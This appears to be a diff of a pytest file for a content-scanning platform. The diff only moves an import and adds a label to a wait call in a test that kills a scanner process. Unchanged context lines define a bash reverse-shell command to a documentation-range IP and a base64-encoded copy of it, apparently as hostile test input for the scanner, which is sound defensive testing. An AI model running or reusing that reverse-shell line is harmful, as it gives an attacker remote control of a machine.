@@ -16,12 +16,13 @@ import pytest
 
 from tests.hostile.corpus import Attack, case
 from tests.hostile.stage import Stage
-from tests.scanning.watching import bad_child, has_input, make_stop, until
+from tests.scanning.watching import bad_child, has_input, make_stop
 from vskill_platform.domain.content import SkillContent
 from vskill_platform.domain.scan import ScanReport
 from vskill_platform.ports.scanner import NO_CHANGES
 from vskill_platform.scanning.pool import ScannerPool
 from vskill_platform.testing.git_repos import Entry, executable
+from vskill_platform.testing.waits import until
 
 SHELL = "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
 CODED = base64.b64encode(SHELL.encode()).decode()
@@ -219,7 +220,7 @@ class KilledScanner:
         with pytest.MonkeyPatch.context() as patched:
             patched.setattr(sys, "executable", bad_child(self._folder, body="os.kill(os.getpid(), 9)"))
             scanning = asyncio.create_task(self._pool.scan(content, changes=changes))
-            await until(lambda: has_input(pid))
+            await until(lambda: has_input(pid), what="the job is sent")
             os.kill(pid, signal.SIGKILL)
             return await scanning
 
